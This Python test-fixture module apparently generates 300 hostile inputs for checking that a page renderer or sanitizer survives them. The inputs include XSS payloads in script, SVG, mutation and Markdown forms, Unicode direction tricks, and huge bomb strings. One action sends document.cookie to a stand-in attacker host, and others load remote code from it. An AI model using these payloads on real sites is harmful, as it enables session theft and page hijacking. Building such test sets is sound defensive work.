"""Three hundred texts that a model, a person or an import might send to break a page: each class in many dresses."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, product
from typing import Final

COUNT: Final = 300

ACTS: Final = ("alert(1)", "document.body.remove()", "fetch('https://evil.example/'+document.cookie)", "window.hit=1")

SCRIPTS: Final = (
    "<script>{act}</script>",
    "<ScRiPt >{act}</sCrIpT>",
    "</textarea><script>{act}</script>",
    "</title></style></script><script>{act}</script>",
    '"><script>{act}</script>',
    "<script src=https://evil.example/x.js></script>{act}",
    "<img src=x onerror={act}>",
    '<img src="https://evil.example/pixel.png" alt="{act}">',
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<a href='javascript:{act}'>x</a>",
    "<form action=https://evil.example><button>{act}</button></form>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<object data='javascript:{act}'></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{act}'>",
    "<base href=https://evil.example/>{act}",
    "<link rel=stylesheet href=https://evil.example/x.css>{act}",
    "<style>@import 'https://evil.example/x.css';*{{display:none}}</style>{act}",
    "{{{{ {act} }}}} {{% raw %}} ${{{act}}} #{{{act}}}",
)
SVG: Final = (
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><a xlink:href='javascript:{act}'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={act}>#x'/>",
    "<math><mtext><img src=x onerror={act}>",
    "<svg><foreignObject><iframe src='javascript:{act}'>",
)
MUTATION: Final = (
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={act}&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={act} src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={act}>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror={act}>'>",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<img src=x onerror={act}>]]>",
    "<x/\x0c/onclick={act}>\u2028</x>",
)
ADDRESSES: Final = (
    "[x](javascript:{act})",
    "[x](JaVaScRiPt&colon;{act})",
    "[x](data:text/html,<script>{act}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {act}",
    "![x](https://evil.example/pixel.png?{act})",
    "![x](data:image/svg+xml,<svg onload={act}>)",
    "<javascript:{act}>",
    "<https://evil.example/{act}>",
    '[x](https://evil.example "onmouseover={act}")',
    "[x]: https://evil.example/{act}\n\n[x] ![x]",
    "[![x](https://evil.example/a.png)](vbscript:{act})",
    '```"><script>{act}</script>\nx\n```',
    "```html\n<script>{act}</script>\n```",
    "|a|b|\n|-|:-:|\n|<script>{act}</script>|`{act}`|",
    "# <img src=x onerror={act}>\n\n> <svg onload={act}>\n\n1. {act}\n   - <b>x",
)
BOMBS: Final = (
    *("[", "![", "[a](", "*a_", "**a ", "`a", "> ", "- ", "|a", "# a\n", "a\n"),
    *("[x]: y\n", "<a ", "~~a", "\\", "&amp;", "  "),
)
UNSEEN: Final = (
    "\u202e{act}\u202c",
    "safe\u2066{act}\u2069 text",
    "p\u200ba\u200by\u200b{act}\u200b\u200b",
    "\u202d\u202e" * 40 + "{act}",
    "\ufeff\u200f{act}\u061c",
    "a" + "\u0301" * 300 + "{act}",
    "\u00ad\u2060\u180e{act}",
    "שלום {act} عالم",
    "\x1b[31m{act}\x07\x08",
    "\U000e0041\U000e0042{act}",
)


def payloads() -> list[str]:
    """All of them, no two alike."""
    dressed = (_dressed(texts) for texts in (SCRIPTS, SVG, MUTATION, ADDRESSES, UNSEEN))
    found = list(dict.fromkeys(chain(_bombs(), _long_lines(), *dressed)))
    assert len(found) == COUNT
    assert len(found) == COUNT
    return found


def sample(count: int) -> list[str]:
    """So many of them, some of every class."""
    everything = payloads()
    return everything[:: len(everything) // count][:count]


def _dressed(texts: tuple[str, ...]) -> Iterator[str]:
    return (text.format(act=act) if "{{" in text else text.replace("{act}", act) for text, act in product(texts, ACTS))


def _bombs() -> Iterator[str]:
    for bomb, length in product(BOMBS, (2_000, 10_000, 50_000)):
        yield (bomb * length)[:length]


def _long_lines() -> Iterator[str]:
    yield from (piece * (100_000 // len(piece)) for piece in ("x", "<", "&", "a ", "漢", "ب", "\u202e", "\u200b", "\u202e\u200b"))
